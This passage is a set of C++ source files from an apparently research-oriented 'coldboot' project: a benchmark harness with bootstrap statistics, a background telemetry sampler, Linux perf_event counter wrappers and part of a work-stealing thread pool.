 * Benches publish their paper-figure reproductions ("report"
 * sections) through `BenchContext::report()`, which lands both in the
 * consolidated BENCH.json and in the global StatRegistry under
 * `bench.<key>` - one code path with the PR-1 CLI/test exports. Each
 * repetition also records an `obs::ScopedSpan`, so a `--trace` run
 * yields a Chrome trace of the whole suite.
 *
 * The emitted BENCH.json is schema-versioned (see benchJsonSchemaVersion)
 * and carries an environment fingerprint (compiler, flags, CPU, git
 * SHA) so `tools/bench_compare` can refuse to diff incomparable runs.
 */

#ifndef COLDBOOT_OBS_BENCH_HH
#define COLDBOOT_OBS_BENCH_HH

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "obs/perf.hh"

namespace coldboot::obs::bench
{

/** Bump when the BENCH.json layout changes incompatibly. */
constexpr int benchJsonSchemaVersion = 1;

//
// Robust statistics kernel
//

/** Summary statistics over one benchmark's repetition times. */
struct SampleStats
{
    uint64_t n = 0;
    double min = 0.0;
    double max = 0.0;
    double mean = 0.0;
    /** Population standard deviation. */
    double stddev = 0.0;
    double median = 0.0;
    /** Median absolute deviation (unscaled). */
    double mad = 0.0;
    /** 95% bootstrap confidence interval for the median. */
    double ci95_lo = 0.0;
    double ci95_hi = 0.0;
};

/**
 * Linear-interpolated percentile of a sorted sample.
 * @param sorted Ascending values (must be non-empty).
 * @param p      Percentile in [0, 100].
 */
double percentile(const std::vector<double> &sorted, double p);

/** Median of an unsorted sample (empty -> 0). */
double median(std::vector<double> samples);

/** Median absolute deviation of an unsorted sample (empty -> 0). */
double medianAbsDeviation(const std::vector<double> &samples);

/**
 * Full summary of a sample. The confidence interval comes from a
 * percentile bootstrap of the median with a fixed-seed deterministic
 * RNG: the same samples always produce the same interval.
 *
 * @param samples   The observations (repetition times, typically).
 * @param resamples Bootstrap resample count (0 disables the CI, which
 *                  then degenerates to [median, median]).
 * @param seed      Bootstrap RNG seed.
 */
SampleStats summarize(const std::vector<double> &samples,
                      unsigned resamples = 2000, uint64_t seed = 42);

//
// Registration
//

class BenchContext;

using BenchFn = void (*)(BenchContext &);

/** One registered benchmark. */
struct BenchInfo
{
    std::string name;
    BenchFn fn;
};

/** The process-global registration list, in registration order. */
std::vector<BenchInfo> &benchRegistry();

/** Register a bench; returns 0 (used by COLDBOOT_BENCH). */
int registerBench(const char *name, BenchFn fn);

/**
 * Per-run context handed to every bench function: profile selection
 * plus the channel for throughput hints and report figures.
 */
class BenchContext
{
  public:
    explicit BenchContext(std::string bench_name, bool smoke_profile)
        : name(std::move(bench_name)), smoke_run(smoke_profile)
    {
    }

    /**
     * True under `--profile smoke`: the bench must shrink its working
     * set / trial counts so a full-suite run finishes in seconds (the
     * tier-1 ctest exercises exactly this).
     */
    bool smoke() const { return smoke_run; }

    /** Convenience: pick a size by profile. */
    template <typename T>
    T pick(T full, T smoke_value) const
    {
        return smoke_run ? smoke_value : full;
    }

    /**
     * Bytes processed by one repetition (for derived MB/s). Call once
     * per run; the last value wins.
     */
    void setBytesProcessed(uint64_t bytes) { bytes_processed = bytes; }

    /** Items processed by one repetition (for derived items/s). */
    void setItemsProcessed(uint64_t items) { items_processed = items; }

    /**
     * Publish a named figure (a paper table/figure reproduction or
     * any derived metric). Lands in the bench's "reports" object in
     * BENCH.json and as StatRegistry scalar `bench.<key>`.
     */
    void report(const std::string &key, double value,
                const std::string &desc = "");

    uint64_t bytesProcessed() const { return bytes_processed; }
    uint64_t itemsProcessed() const { return items_processed; }

    /** One published figure. */
    struct Report
    {
        double value = 0.0;
        std::string desc;
    };

    const std::map<std::string, Report> &reports() const
    {
        return report_map;
    }

    const std::string &benchName() const { return name; }

  private:
    std::string name;
    bool smoke_run;
    uint64_t bytes_processed = 0;
    uint64_t items_processed = 0;
    std::map<std::string, Report> report_map;
};

//
// Runner
//

/** Harness configuration for one driver invocation. */
struct RunConfig
{
    int repetitions = 3;
    int warmup = 1;
    bool smoke = false;
    /**
     * Mute bench stdout on warmups and repetitions past the first
     * (the table/figure text only needs printing once). --quiet mutes
     * all of it.
     */
    bool quiet = false;
    /** Bootstrap resamples for the median CI. */
    unsigned bootstrap_resamples = 2000;
    uint64_t bootstrap_seed = 42;
};

/** Everything measured for one bench. */
struct BenchResult
{
    std::string name;
    /** Per-repetition wall time statistics, in nanoseconds. */
    SampleStats wall_ns;
    /** Derived from the median time; 0 when the bench gave no hint. */
    double bytes_per_second = 0.0;
    double items_per_second = 0.0;
    /** Hardware counters summed over all repetitions. */
    PerfSample counters;
    /** Why counters are unavailable ("" when they are available). */
    std::string counters_unavailable_reason;
    /** getrusage(RUSAGE_SELF) max RSS after the bench, in KiB. */
    uint64_t max_rss_kib = 0;
    /** Figures published via BenchContext::report(). */
    std::map<std::string, BenchContext::Report> reports;
};

/** Build/host fingerprint embedded in BENCH.json. */
struct EnvironmentInfo
{
    std::string compiler;
    std::string build_type;
    std::string cxx_flags;
    std::string cpu;
    std::string os;
    std::string git_sha;
};

/** Fingerprint of the running binary and host. */
EnvironmentInfo collectEnvironment();

/**
 * Run one bench under the harness: warmups, then config.repetitions
 * timed+counted repetitions (each recorded as trace span
 * `bench.<name>`).
 */
BenchResult runBench(const BenchInfo &info, const RunConfig &config);

/** One row of the human-readable result table (helper for the driver). */
std::string resultTableRow(const BenchResult &result);

/** Header line matching resultTableRow(). */
std::string resultTableHeader();

/**
 * The consolidated, schema-versioned BENCH.json document for a run.
 */
std::string resultsToJson(const RunConfig &config,
                          const EnvironmentInfo &env,
                          const std::vector<BenchResult> &results);

} // namespace coldboot::obs::bench

/**
 * Define and register a benchmark:
 *
 *   COLDBOOT_BENCH(table2_ciphers)
 *   {
 *       ...           // use ctx (a BenchContext &)
 *   }
 */
#define COLDBOOT_BENCH(bench_name)                                        \
    static void cb_bench_fn_##bench_name(                                 \
        ::coldboot::obs::bench::BenchContext &);                          \
    [[maybe_unused]] static const int cb_bench_reg_##bench_name =         \
        ::coldboot::obs::bench::registerBench(                            \
            #bench_name, &cb_bench_fn_##bench_name);                      \
    static void cb_bench_fn_##bench_name(                                 \
        [[maybe_unused]] ::coldboot::obs::bench::BenchContext &ctx)

#endif // COLDBOOT_OBS_BENCH_HH
