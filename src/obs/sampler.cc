#include "obs/sampler.hh"

#include <utility>

#include "common/logging.hh"
#include "exec/thread_pool.hh"
#include "obs/flight.hh"

namespace coldboot::obs
{

namespace
{

/**
 * Wall-clock milliseconds since the Unix epoch for series timestamps.
 * Telemetry is the one place wall time is meaningful output (Grafana
 * et al. plot against it); simulation code must keep using
 * steady_clock (see `.coldboot-lint` in this directory).
 */
double
unixMillisNow()
{
    return std::chrono::duration<double, std::milli>(
               std::chrono::system_clock::now().time_since_epoch())
        .count();
}

const char *
kindName(StatSnapshot::Type t)
{
    switch (t) {
      case StatSnapshot::Type::Counter: return "counter";
      case StatSnapshot::Type::Scalar: return "scalar";
      case StatSnapshot::Type::Rate: return "rate";
      case StatSnapshot::Type::Distribution:
        return "distribution_count";
    }
    return "unknown";
}

} // anonymous namespace

TelemetrySampler::TelemetrySampler()
    : TelemetrySampler(Config(), nullptr)
{
}

TelemetrySampler::TelemetrySampler(Config cfg_, StatRegistry *reg)
    : cfg(cfg_),
      registry(reg != nullptr ? reg : &StatRegistry::global())
{
    cb_assert(cfg.ring_capacity > 0,
              "TelemetrySampler: ring capacity must be positive");
    cb_assert(cfg.ewma_alpha > 0.0 && cfg.ewma_alpha <= 1.0,
              "TelemetrySampler: ewma_alpha must be in (0, 1]");
}

TelemetrySampler::~TelemetrySampler()
{
    stop();
}

void
TelemetrySampler::start()
{
    {
        std::lock_guard<std::mutex> lock(stop_mu);
        if (running)
            return;
        running = true;
        stopping = false;
    }
    loop_pool = std::make_unique<exec::ThreadPool>(1);
    loop_pool->submit([this] { tickLoop(); });
}

void
TelemetrySampler::stop()
{
    {
        std::lock_guard<std::mutex> lock(stop_mu);
        if (!running)
            return;
        stopping = true;
    }
    stop_cv.notify_all();
    // Pool destruction runs the loop task to completion and joins.
    loop_pool.reset();
    std::lock_guard<std::mutex> lock(stop_mu);
    running = false;
}

void
TelemetrySampler::tickLoop()
{
    for (;;) {
        sampleOnce();
        std::unique_lock<std::mutex> lock(stop_mu);
        if (stop_cv.wait_for(lock, cfg.period,
                             [this] { return stopping; }))
            return;
    }
}

void
TelemetrySampler::sampleOnce()
{
    if (cfg.publish_worker_stats)
        exec::ThreadPool::publishGlobalWorkerStats();

    // Keep the crash handler's embedded stats snapshot fresh: the
    // dump path cannot walk the registry from a signal context, so
    // it embeds whatever was pre-rendered at the last tick.
    if (FlightRecorder *fr = FlightRecorder::instance();
        fr && fr->enabled())
        fr->updateStatsSnapshot();

    auto stats = registry->snapshotAll();
    auto now_steady = std::chrono::steady_clock::now();
    double now_ms = unixMillisNow();

    std::lock_guard<std::mutex> lock(mu);
    double dt = 0.0;
    if (have_last_tick)
        dt = std::chrono::duration<double>(now_steady - last_tick)
                 .count();
    last_tick = now_steady;
    have_last_tick = true;

    for (const auto &s : stats) {
        auto it = metrics.find(s.name);
        if (it == metrics.end()) {
            it = metrics
                     .emplace(s.name, MetricState(cfg.ring_capacity))
                     .first;
            it->second.kind = kindName(s.type);
        }
        MetricState &m = it->second;

        SeriesPoint p;
        p.unix_ms = now_ms;
        p.value = s.value;
        if (m.has_prev && dt > 0.0) {
            p.delta = s.value - m.prev_value;
            p.rate = p.delta / dt;
            m.ewma_rate = cfg.ewma_alpha * p.rate +
                          (1.0 - cfg.ewma_alpha) * m.ewma_rate;
        } else {
            // First observation: no interval to rate over yet.
            p.delta = 0.0;
            p.rate = 0.0;
            m.ewma_rate = 0.0;
        }
        m.prev_value = s.value;
        m.has_prev = true;
        m.ring.push(p);
    }
    ++ticks;
}

std::vector<SeriesSnapshot>
TelemetrySampler::seriesSnapshot() const
{
    std::lock_guard<std::mutex> lock(mu);
    std::vector<SeriesSnapshot> out;
    out.reserve(metrics.size());
    for (const auto &kv : metrics) {
        SeriesSnapshot s;
        s.name = kv.first;
        s.kind = kv.second.kind;
        s.ewma_rate = kv.second.ewma_rate;
        s.points = kv.second.ring.points();
        out.push_back(std::move(s));
    }
    return out;
}

uint64_t
TelemetrySampler::tickCount() const
{
    std::lock_guard<std::mutex> lock(mu);
    return ticks;
}

} // namespace coldboot::obs
