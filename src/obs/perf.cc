#include "obs/perf.hh"

#include <cerrno>
#include <cstdlib>
#include <cstring>

#ifdef __linux__
#include <linux/perf_event.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#endif

namespace coldboot::obs
{

PerfSample &
PerfSample::operator+=(const PerfSample &other)
{
    available = available && other.available;
    cycles += other.cycles;
    instructions += other.instructions;
    cache_references += other.cache_references;
    cache_misses += other.cache_misses;
    branches += other.branches;
    branch_misses += other.branch_misses;
    return *this;
}

#ifdef __linux__

namespace
{

/** The fixed event set, group leader first. */
constexpr uint64_t eventConfigs[] = {
    PERF_COUNT_HW_CPU_CYCLES,
    PERF_COUNT_HW_INSTRUCTIONS,
    PERF_COUNT_HW_CACHE_REFERENCES,
    PERF_COUNT_HW_CACHE_MISSES,
    PERF_COUNT_HW_BRANCH_INSTRUCTIONS,
    PERF_COUNT_HW_BRANCH_MISSES,
};
static_assert(sizeof(eventConfigs) / sizeof(eventConfigs[0]) ==
              PerfCounters::eventCount);

int
perfEventOpen(perf_event_attr *attr, pid_t pid, int cpu, int group_fd)
{
    return static_cast<int>(syscall(SYS_perf_event_open, attr, pid,
                                    cpu, group_fd, 0ul));
}

} // anonymous namespace

PerfCounters::PerfCounters()
{
    fds.fill(-1);
    if (const char *dis = std::getenv("COLDBOOT_PERF_DISABLE");
        dis && *dis && std::strcmp(dis, "0") != 0) {
        reason = "disabled by COLDBOOT_PERF_DISABLE";
        return;
    }

    for (size_t i = 0; i < eventCount; ++i) {
        perf_event_attr attr{};
        attr.type = PERF_TYPE_HARDWARE;
        attr.size = sizeof(attr);
        attr.config = eventConfigs[i];
        attr.disabled = i == 0; // leader starts the group
        attr.exclude_kernel = 1;
        attr.exclude_hv = 1;
        attr.read_format = PERF_FORMAT_GROUP |
                           PERF_FORMAT_TOTAL_TIME_ENABLED |
                           PERF_FORMAT_TOTAL_TIME_RUNNING;
        int fd = perfEventOpen(&attr, 0, -1, i == 0 ? -1 : fds[0]);
        if (fd < 0) {
            reason = std::string("perf_event_open failed: ") +
                     std::strerror(errno);
            for (size_t j = 0; j < i; ++j) {
                close(fds[j]);
                fds[j] = -1;
            }
            return;
        }
        fds[i] = fd;
    }
    group_fd = fds[0];
}

PerfCounters::~PerfCounters()
{
    for (int fd : fds)
        if (fd >= 0)
            close(fd);
}

void
PerfCounters::start()
{
    if (!available())
        return;
    ioctl(group_fd, PERF_EVENT_IOC_RESET, PERF_IOC_FLAG_GROUP);
    ioctl(group_fd, PERF_EVENT_IOC_ENABLE, PERF_IOC_FLAG_GROUP);
}

PerfSample
PerfCounters::readNow() const
{
    PerfSample s;
    if (!available())
        return s;

    // PERF_FORMAT_GROUP layout: nr, time_enabled, time_running,
    // then one value per event.
    uint64_t buf[3 + eventCount];
    ssize_t want = sizeof(buf);
    if (read(group_fd, buf, sizeof(buf)) != want || buf[0] != eventCount)
        return s;

    // Counters can be multiplexed off-core; scale to time_enabled so
    // the counts estimate the full window.
    double scale = 1.0;
    if (buf[2] == 0)
        return s; // never scheduled: no usable data
    if (buf[2] < buf[1])
        scale = static_cast<double>(buf[1]) /
                static_cast<double>(buf[2]);

    auto scaled = [&](size_t i) {
        return static_cast<uint64_t>(
            static_cast<double>(buf[3 + i]) * scale);
    };
    s.available = true;
    s.cycles = scaled(0);
    s.instructions = scaled(1);
    s.cache_references = scaled(2);
    s.cache_misses = scaled(3);
    s.branches = scaled(4);
    s.branch_misses = scaled(5);
    return s;
}

PerfSample
PerfCounters::stop()
{
    if (!available())
        return {};
    ioctl(group_fd, PERF_EVENT_IOC_DISABLE, PERF_IOC_FLAG_GROUP);
    return readNow();
}

#else // !__linux__

PerfCounters::PerfCounters()
    : reason("not supported on this platform")
{
    fds.fill(-1);
}

PerfCounters::~PerfCounters() = default;

void
PerfCounters::start()
{
}

PerfSample
PerfCounters::readNow() const
{
    return {};
}

PerfSample
PerfCounters::stop()
{
    return {};
}

#endif // __linux__

PerfSample
perfDelta(const PerfSample &end, const PerfSample &begin)
{
    auto sub = [](uint64_t a, uint64_t b) {
        return a > b ? a - b : 0;
    };
    PerfSample d;
    d.available = end.available && begin.available;
    if (!d.available)
        return d;
    d.cycles = sub(end.cycles, begin.cycles);
    d.instructions = sub(end.instructions, begin.instructions);
    d.cache_references =
        sub(end.cache_references, begin.cache_references);
    d.cache_misses = sub(end.cache_misses, begin.cache_misses);
    d.branches = sub(end.branches, begin.branches);
    d.branch_misses = sub(end.branch_misses, begin.branch_misses);
    return d;
}

ThreadPerfCounters &
ThreadPerfCounters::mine()
{
    thread_local ThreadPerfCounters counters;
    return counters;
}

} // namespace coldboot::obs
