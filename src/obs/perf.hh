/**
 * @file
 * Hardware performance counters via `perf_event_open(2)`, with a
 * graceful portable fallback.
 *
 * The bench harness wants cycles / instructions / cache and branch
 * miss counts per benchmark repetition, but the syscall is Linux-only
 * and frequently denied (containers, CI runners, hardened
 * `perf_event_paranoid` settings, VMs without a PMU). PerfCounters
 * therefore never fails: when any event cannot be opened the whole
 * group reports `available() == false` and every sample carries
 * `available = false`, which the JSON exporters translate into
 * `"counters": {"available": false}` so downstream tooling can tell
 * "zero misses" from "could not measure".
 *
 * Setting the environment variable `COLDBOOT_PERF_DISABLE=1` forces
 * the fallback path deterministically (used by the tests to exercise
 * it on machines where the syscall would succeed).
 */

#ifndef COLDBOOT_OBS_PERF_HH
#define COLDBOOT_OBS_PERF_HH

#include <array>
#include <cstdint>
#include <string>

namespace coldboot::obs
{

/** One reading of the counter group over a start()..stop() window. */
struct PerfSample
{
    /** False when the counters could not be opened (or were scaled
     *  to zero running time); every count below is then 0. */
    bool available = false;
    uint64_t cycles = 0;
    uint64_t instructions = 0;
    uint64_t cache_references = 0;
    uint64_t cache_misses = 0;
    uint64_t branches = 0;
    uint64_t branch_misses = 0;

    /** Instructions per cycle; 0 when cycles is 0. */
    double ipc() const
    {
        return cycles ? static_cast<double>(instructions) /
                            static_cast<double>(cycles)
                      : 0.0;
    }

    /** Field-wise sum (for aggregating repetitions). */
    PerfSample &operator+=(const PerfSample &other);
};

/**
 * A group of hardware counters read together so all counts cover the
 * same instruction window. Open once, then start()/stop() around each
 * measured region; stop() returns the counts for that region.
 */
class PerfCounters
{
  public:
    PerfCounters();
    ~PerfCounters();

    PerfCounters(const PerfCounters &) = delete;
    PerfCounters &operator=(const PerfCounters &) = delete;

    /** Whether the full counter group opened successfully. */
    bool available() const { return group_fd >= 0; }

    /**
     * Why the counters are unavailable ("" when available):
     * "disabled by COLDBOOT_PERF_DISABLE", "perf_event_open failed:
     * <errno string>", or "not supported on this platform".
     */
    const std::string &unavailableReason() const { return reason; }

    /** Reset and enable the group (no-op when unavailable). */
    void start();

    /**
     * Disable the group and read it. When unavailable, returns a
     * sample with `available == false`.
     */
    PerfSample stop();

    /** Number of events in the fixed group. */
    static constexpr size_t eventCount = 6;

  private:
    int group_fd = -1;
    std::array<int, eventCount> fds{};
    std::string reason;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_PERF_HH
