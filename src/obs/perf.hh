/**
 * @file
 * Hardware performance counters via `perf_event_open(2)`, with a
 * graceful portable fallback.
 *
 * The bench harness wants cycles / instructions / cache and branch
 * miss counts per benchmark repetition, but the syscall is Linux-only
 * and frequently denied (containers, CI runners, hardened
 * `perf_event_paranoid` settings, VMs without a PMU). PerfCounters
 * therefore never fails: when any event cannot be opened the whole
 * group reports `available() == false` and every sample carries
 * `available = false`, which the JSON exporters translate into
 * `"counters": {"available": false}` so downstream tooling can tell
 * "zero misses" from "could not measure".
 *
 * Setting the environment variable `COLDBOOT_PERF_DISABLE=1` forces
 * the fallback path deterministically (used by the tests to exercise
 * it on machines where the syscall would succeed).
 */

#ifndef COLDBOOT_OBS_PERF_HH
#define COLDBOOT_OBS_PERF_HH

#include <array>
#include <cstdint>
#include <string>

namespace coldboot::obs
{

/** One reading of the counter group over a start()..stop() window. */
struct PerfSample
{
    /** False when the counters could not be opened (or were scaled
     *  to zero running time); every count below is then 0. */
    bool available = false;
    uint64_t cycles = 0;
    uint64_t instructions = 0;
    uint64_t cache_references = 0;
    uint64_t cache_misses = 0;
    uint64_t branches = 0;
    uint64_t branch_misses = 0;

    /** Instructions per cycle; 0 when cycles is 0. */
    double ipc() const
    {
        return cycles ? static_cast<double>(instructions) /
                            static_cast<double>(cycles)
                      : 0.0;
    }

    /** Field-wise sum (for aggregating repetitions). */
    PerfSample &operator+=(const PerfSample &other);
};

/**
 * A group of hardware counters read together so all counts cover the
 * same instruction window. Open once, then start()/stop() around each
 * measured region; stop() returns the counts for that region.
 */
class PerfCounters
{
  public:
    PerfCounters();
    ~PerfCounters();

    PerfCounters(const PerfCounters &) = delete;
    PerfCounters &operator=(const PerfCounters &) = delete;

    /** Whether the full counter group opened successfully. */
    bool available() const { return group_fd >= 0; }

    /**
     * Why the counters are unavailable ("" when available):
     * "disabled by COLDBOOT_PERF_DISABLE", "perf_event_open failed:
     * <errno string>", or "not supported on this platform".
     */
    const std::string &unavailableReason() const { return reason; }

    /** Reset and enable the group (no-op when unavailable). */
    void start();

    /**
     * Disable the group and read it. When unavailable, returns a
     * sample with `available == false`.
     */
    PerfSample stop();

    /**
     * Read the group *without* disabling it - the free-running view
     * used for per-span deltas. Counts are cumulative since start()
     * (multiplexing-scaled); subtract two readings with perfDelta().
     * When unavailable, returns a sample with `available == false`.
     */
    PerfSample readNow() const;

    /** Number of events in the fixed group. */
    static constexpr size_t eventCount = 6;

  private:
    int group_fd = -1;
    std::array<int, eventCount> fds{};
    std::string reason;
};

/**
 * Field-wise `end - begin` of two free-running readings, clamped at
 * zero (multiplexing rescaling can make scaled counts locally
 * non-monotonic). `available` only when both readings were.
 */
PerfSample perfDelta(const PerfSample &end, const PerfSample &begin);

/**
 * The calling thread's continuously-enabled counter group, opened
 * (and started) on first use and left running for the thread's
 * lifetime. This is what per-span perf attribution reads: a span
 * takes a readNow() at construction and one at stop() and records
 * the delta, so nesting spans never fight over enable/disable state
 * the way start()/stop() of a shared PerfCounters would.
 *
 * Cost model: opening is once per thread; each readNow() is one
 * read(2). Unavailability (container, perf_event_paranoid,
 * COLDBOOT_PERF_DISABLE, non-Linux) degrades to samples with
 * `available == false` - never an error.
 */
class ThreadPerfCounters
{
  public:
    /** The calling thread's group (thread_local singleton). */
    static ThreadPerfCounters &mine();

    bool available() const { return group.available(); }

    const std::string &unavailableReason() const
    {
        return group.unavailableReason();
    }

    /** Cumulative counts since this thread first touched mine(). */
    PerfSample readNow() const { return group.readNow(); }

  private:
    ThreadPerfCounters() { group.start(); }

    PerfCounters group;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_PERF_HH
