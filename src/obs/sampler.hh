/**
 * @file
 * Background telemetry sampler: a low-duty-cycle thread that
 * periodically snapshots the StatRegistry into fixed-size ring
 * buffers (obs/timeseries.hh), deriving per-period deltas,
 * instantaneous rates and an EWMA-smoothed rate per metric.
 *
 * The sampler is the bridge between the registry's "current totals"
 * view and the time-series view the HTTP plane serves: `/metrics`
 * augments the raw counters with `_ewma_per_second` gauges and
 * `/stats/series` exposes the full sampled history.
 *
 * Threading: the tick loop runs on its own single-worker
 * exec::ThreadPool, never the global pool - a telemetry tick must not
 * compete with (or, at pool width 1, deadlock behind) attack work.
 * Memory is bounded: one fixed-capacity ring per metric, oldest
 * points overwritten. When no sampler is constructed the cost is
 * exactly zero - no thread, no allocation, no registry traffic - and
 * sampling only ever *reads* workload stats, so the determinism
 * contract (DESIGN.md §9) holds byte-identically with the sampler on
 * or off.
 */

#ifndef COLDBOOT_OBS_SAMPLER_HH
#define COLDBOOT_OBS_SAMPLER_HH

#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "obs/stats.hh"
#include "obs/timeseries.hh"

namespace coldboot::exec
{
class ThreadPool;
} // namespace coldboot::exec

namespace coldboot::obs
{

/**
 * Periodic StatRegistry -> RingSeries sampler. Construct, start(),
 * and scrape via seriesSnapshot(); stop() (or destruction) joins the
 * tick thread. sampleOnce() is public so tests can drive ticks
 * manually without any thread or clock cadence.
 */
class TelemetrySampler
{
  public:
    struct Config
    {
        /** Tick period of the background loop. */
        std::chrono::milliseconds period{250};
        /** Points retained per metric (ring capacity). */
        size_t ring_capacity = 256;
        /**
         * EWMA smoothing factor in (0, 1]; weight of the newest
         * instantaneous rate. 1.0 = no smoothing.
         */
        double ewma_alpha = 0.25;
        /**
         * Mirror per-worker pool counters into the registry as
         * `exec.pool.worker.*` scalars each tick.
         */
        bool publish_worker_stats = true;
    };

    /** Default config, sampling the global registry. */
    TelemetrySampler();

    /** @param reg Registry to sample; nullptr = the global one. */
    explicit TelemetrySampler(Config cfg, StatRegistry *reg = nullptr);

    TelemetrySampler(const TelemetrySampler &) = delete;
    TelemetrySampler &operator=(const TelemetrySampler &) = delete;

    /** Stops the tick loop if still running. */
    ~TelemetrySampler();

    /**
     * Launch the background tick loop (idempotent). The first tick
     * happens immediately so scrapes right after start() see data.
     */
    void start();

    /** Signal the loop and join it (idempotent, safe unstarted). */
    void stop();

    /**
     * Take one sample now, on the calling thread: snapshot the
     * registry, push one point per metric, update EWMA state. This
     * is the whole tick - the background loop is just this on a
     * timer - so tests exercise identical code paths.
     */
    void sampleOnce();

    /** Sampled history of every metric, name-sorted. */
    std::vector<SeriesSnapshot> seriesSnapshot() const;

    /** Ticks taken so far (manual + background). */
    uint64_t tickCount() const;

    const Config &config() const { return cfg; }

  private:
    struct MetricState
    {
        std::string kind;
        RingSeries ring;
        double prev_value = 0.0;
        bool has_prev = false;
        double ewma_rate = 0.0;

        explicit MetricState(size_t capacity) : ring(capacity) {}
    };

    void tickLoop();

    Config cfg;
    StatRegistry *registry;

    mutable std::mutex mu;
    /** Name-ordered so snapshots render deterministically. */
    std::map<std::string, MetricState> metrics;
    uint64_t ticks = 0;
    /** Steady timestamp of the previous tick (rate denominator). */
    std::chrono::steady_clock::time_point last_tick;
    bool have_last_tick = false;

    std::mutex stop_mu;
    std::condition_variable stop_cv;
    bool stopping = false;
    bool running = false;

    /** Dedicated single-worker pool hosting the tick loop. */
    std::unique_ptr<exec::ThreadPool> loop_pool;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_SAMPLER_HH
