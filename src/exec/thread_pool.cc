#include "exec/thread_pool.hh"

#include <algorithm>
#include <chrono>
#include <cstdlib>

#include "common/logging.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::exec
{

namespace
{

/** Worker identity of the current thread (nullptr off-pool). */
thread_local ThreadPool *tl_pool = nullptr;
thread_local unsigned tl_worker = 0;

std::mutex g_override_mu;
ThreadPool *g_override = nullptr;

std::atomic<unsigned> g_thread_override{0};

/** The global() singleton once constructed (for currentGlobal()). */
std::atomic<ThreadPool *> g_global_pool{nullptr};

/** Lock-free running-maximum update. */
void
bumpHighWater(std::atomic<uint64_t> &hwm, uint64_t depth)
{
    uint64_t cur = hwm.load(std::memory_order_relaxed);
    while (depth > cur &&
           !hwm.compare_exchange_weak(cur, depth,
                                      std::memory_order_relaxed)) {
    }
}

} // anonymous namespace

uint64_t
PoolStats::tasksExecuted() const
{
    uint64_t n = 0;
    for (const auto &w : per_worker)
        n += w.tasks_executed;
    return n;
}

uint64_t
PoolStats::steals() const
{
    uint64_t n = 0;
    for (const auto &w : per_worker)
        n += w.steals;
    return n;
}

uint64_t
PoolStats::tasksStolen() const
{
    uint64_t n = 0;
    for (const auto &w : per_worker)
        n += w.tasks_stolen;
    return n;
}

unsigned
parseThreadCount(const char *text)
{
    if (text == nullptr || *text == '\0')
        return 0;
    char *end = nullptr;
    unsigned long v = std::strtoul(text, &end, 10);
    if (end == text || *end != '\0')
        return 0;
    return static_cast<unsigned>(std::min(v, 1024ul));
}

unsigned
resolveThreadCount()
{
    unsigned n = g_thread_override.load(std::memory_order_relaxed);
    if (n == 0)
        n = parseThreadCount(std::getenv("COLDBOOT_THREADS"));
    if (n == 0)
        n = std::thread::hardware_concurrency();
    return std::max(1u, n);
}

void
setThreadOverride(unsigned n)
{
    g_thread_override.store(std::min(n, 1024u),
                            std::memory_order_relaxed);
}

/** Per-worker state: a deque plus owner-updated counters. */
struct ThreadPool::Worker
{
    std::mutex mu;
    std::deque<std::function<void()>> tasks;
    std::atomic<uint64_t> tasks_executed{0};
    std::atomic<uint64_t> steals{0};
    std::atomic<uint64_t> tasks_stolen{0};
    std::atomic<uint64_t> parks{0};
    std::atomic<uint64_t> idle_ns{0};
    std::atomic<uint64_t> queue_hwm{0};
};

ThreadPool::ThreadPool(unsigned n)
{
    if (n == 0)
        n = resolveThreadCount();
    n = std::clamp(n, 1u, 1024u);
    workers.reserve(n);
    for (unsigned i = 0; i < n; ++i)
        workers.push_back(std::make_unique<Worker>());

    // Registry refs are cached before the workers exist so the hot
    // path never takes the registry lock.
    auto &registry = obs::StatRegistry::global();
    c_tasks = &registry.counter("exec.pool.tasks_executed",
                                "tasks run by pool workers");
    c_steals = &registry.counter(
        "exec.pool.steals", "successful work-stealing operations");
    c_stolen = &registry.counter(
        "exec.pool.tasks_stolen",
        "tasks migrated between worker deques by stealing");
    c_parks = &registry.counter(
        "exec.pool.parks", "times a worker parked idle");
    d_idle = &registry.distribution(
        "exec.pool.idle_seconds",
        "wall-clock seconds per worker park interval");
    registry.setScalar("exec.pool.workers", n,
                       "worker count of the most recently created "
                       "pool");

    threads.reserve(n);
    for (unsigned i = 0; i < n; ++i)
        threads.emplace_back(&ThreadPool::workerMain, this, i);
}

ThreadPool::~ThreadPool()
{
    {
        std::lock_guard<std::mutex> lk(park_mu);
        stopping.store(true, std::memory_order_release);
    }
    park_cv.notify_all();
    for (auto &t : threads)
        t.join();
}

void
ThreadPool::submit(std::function<void()> fn)
{
    // Causal tracing: capture the submitting thread's span context
    // plus a fresh flow id, emit the flow start here (inside the
    // submitter's open span), and wrap the task so its run records
    // an "exec.task" span parented to the *submitter* - not to
    // whatever the executing worker happened to be doing - with the
    // flow finish landing inside it. This is what keeps traces
    // causal across submit/steal/run.
    obs::PhaseTracer &tracer = obs::PhaseTracer::global();
    if (tracer.enabled()) {
        uint64_t flow = tracer.newId();
        uint64_t parent = tracer.currentSpanId();
        tracer.recordFlowStart("exec.task", flow);
        fn = [inner = std::move(fn), parent, flow]() mutable {
            obs::ScopedSpan span("exec.task", parent, flow);
            inner();
            // Drop captured state before the span closes; the inner
            // wrapper (TaskGroup) has already released user captures
            // by the time it signals completion, and this keeps the
            // tracing wrapper equally invisible to that contract.
            inner = nullptr;
        };
    }

    unsigned target;
    if (tl_pool == this) {
        // Tasks spawned by a worker land on its own deque (warm
        // caches; thieves balance any backlog).
        target = tl_worker;
    } else {
        if (stopping.load(std::memory_order_acquire))
            cb_fatal("ThreadPool::submit after shutdown began");
        target = static_cast<unsigned>(
            next_rr.fetch_add(1, std::memory_order_relaxed) %
            workers.size());
    }
    size_t depth;
    {
        std::lock_guard<std::mutex> lk(workers[target]->mu);
        workers[target]->tasks.push_back(std::move(fn));
        depth = workers[target]->tasks.size();
    }
    bumpHighWater(workers[target]->queue_hwm, depth);
    queued.fetch_add(1, std::memory_order_release);
    // Fence against the check-then-sleep race: a parking worker that
    // already tested `queued` holds park_mu until it actually sleeps,
    // so acquiring it here orders this notify after that sleep.
    { std::lock_guard<std::mutex> lk(park_mu); }
    park_cv.notify_one();
}

bool
ThreadPool::claimTask(unsigned self, std::function<void()> &out)
{
